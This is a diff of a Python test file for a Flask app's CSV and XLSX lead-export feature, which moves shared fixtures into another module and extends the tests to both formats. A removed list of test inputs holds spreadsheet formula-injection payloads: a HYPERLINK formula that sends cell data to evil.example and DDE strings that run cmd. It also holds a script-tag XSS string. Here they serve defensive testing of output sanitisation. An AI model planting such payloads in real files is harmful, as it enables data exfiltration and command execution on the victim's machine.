@@ -4,8 +4,6 @@ import csv
 import io
 import zipfile
 from collections.abc import Iterator
-from datetime import UTC, datetime
-from pathlib import Path
 from typing import NoReturn
 from xml.etree import ElementTree
 
@@ -21,40 +19,10 @@ from app.leads.records import LeadRecord
 from app.staff.queries import routes as query_routes
 from app.staff.queries.exports import COLUMNS, csv_chunks, harmless
 from app.staff.queries.routes import ExportBrokenError
-from app.staff.queries.workbook import file_chunks, write_workbook
 from tests.app.leads.new_leads import keep
+from tests.app.staff.queries.leads import PAYLOADS, lead
 
 SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
-PAYLOADS = [
-    '=HYPERLINK("https://evil.example?x="&A1,"click")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "＝1+1",
-    '";=1+1',
-    "<script>alert(1)</script>",
-    'first line\nsecond, with "quotes"; and पूजा 🙂',
-    "control \x01 and _x0041_",
-]
-
-
-def lead(number: int = 0, **changes: object) -> LeadRecord:
-    values: dict[str, object] = {
-        "id": f"{number:024x}",
-        "kind": LeadKind.CONTACT,
-        "name": f"Visitor {number}",
-        "email": "asha@example.in",
-        "phone": "+919876543210",
-        "message": None,
-        "created_at": datetime(2026, 4, 15, 20, 30, 5, 999, tzinfo=UTC),
-        "seen_at": None,
-        "suspected": False,
-        "suspicion": None,
-        "notice_version": "2026-04",
-    }
-    return LeadRecord(**(values | changes))  # type: ignore[arg-type]
 
 
 def read_csv(content: bytes) -> list[list[str]]:
@@ -160,41 +128,6 @@ def test_what_a_spreadsheet_would_run_gets_an_apostrophe(cell: str, written: str
     assert harmless(cell) == written
 
 
-def test_a_workbook_holds_every_text_as_it_is_and_no_formula() -> None:
-    with write_workbook([lead(name=payload, message=payload) for payload in PAYLOADS]) as file:
-        [rows] = read_workbook(file.read())
-    written = [row[1].replace("_x000D_", "\r").replace("_x0001_", "\x01").replace("_x005F_", "_") for row in rows[1:]]
-    assert written == PAYLOADS
-
-
-def test_cells_stay_text_when_they_are_edited() -> None:
-    with write_workbook([lead()]) as file, zipfile.ZipFile(file) as archive:
-        styles = archive.read("xl/styles.xml").decode()
-    assert 'numFmtId="49"' in styles
-    assert 'quotePrefix="1"' in styles
-
-
-def test_a_full_sheet_continues_in_the_next() -> None:
-    with write_workbook([lead(number) for number in range(7)], rows_in_sheet=3) as file:
-        sheets = read_workbook(file.read())
-    assert [[row[0] for row in sheet] for sheet in sheets] == [["#", "1", "2", "3"], ["#", "4", "5", "6"], ["#", "7"]]
-
-
-def test_a_broken_workbook_leaves_no_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
-
-    def broken() -> Iterator[LeadRecord]:
-        yield lead()
-        raise RuntimeError
-
-    with pytest.raises(RuntimeError):
-        write_workbook(broken())
-    assert list(tmp_path.iterdir()) == []
-    with write_workbook([lead()]) as file:
-        assert len(b"".join(file_chunks(file))) > 1000
-    assert list(tmp_path.iterdir()) == []
-
-
 def test_csv_is_made_while_it_is_read() -> None:
     taken = 0
 
@@ -210,27 +143,31 @@ def test_csv_is_made_while_it_is_read() -> None:
     assert b"Visitor 9999" in b"".join(chunks)
 
 
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
 @pytest.mark.parametrize("method", ["GET", "HEAD"])
-def test_an_abandoned_file_gives_its_connection_back(app: Flask, client: FlaskClient, method: str) -> None:
+def test_an_abandoned_file_gives_its_connection_back(
+    app: Flask, client: FlaskClient, method: str, file_format: str
+) -> None:
     with app.app_context():
         for _ in range(1000):
             keep()
-        reply = client.open("/api/contact-data/export.csv", method=method)
+        reply = client.open(f"/api/contact-data/export.{file_format}", method=method)
         reply.close()
         assert db.engine.pool.status().count("Current Checked out connections: 0") == 1
 
 
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
 def test_a_database_that_fails_midway_breaks_the_file_off_and_quotes_nothing(
-    app: Flask, client: FlaskClient, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+    client: FlaskClient, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, file_format: str
 ) -> None:
     def failing(*_: object) -> Iterator[LeadRecord]:
-        for number in range(1000):
+        for number in range(5000):
             yield lead(number)
         fail()
 
     monkeypatch.setattr(query_routes, "stream_leads", failing)
     with pytest.raises(ExportBrokenError, match="DisconnectError") as broken:
-        _ = client.get("/api/contact-data/export.csv?q=secret").data
+        _ = client.get(f"/api/contact-data/export.{file_format}?q=secret").data
     assert broken.value.__suppress_context__
     assert "secret" not in caplog.text
 
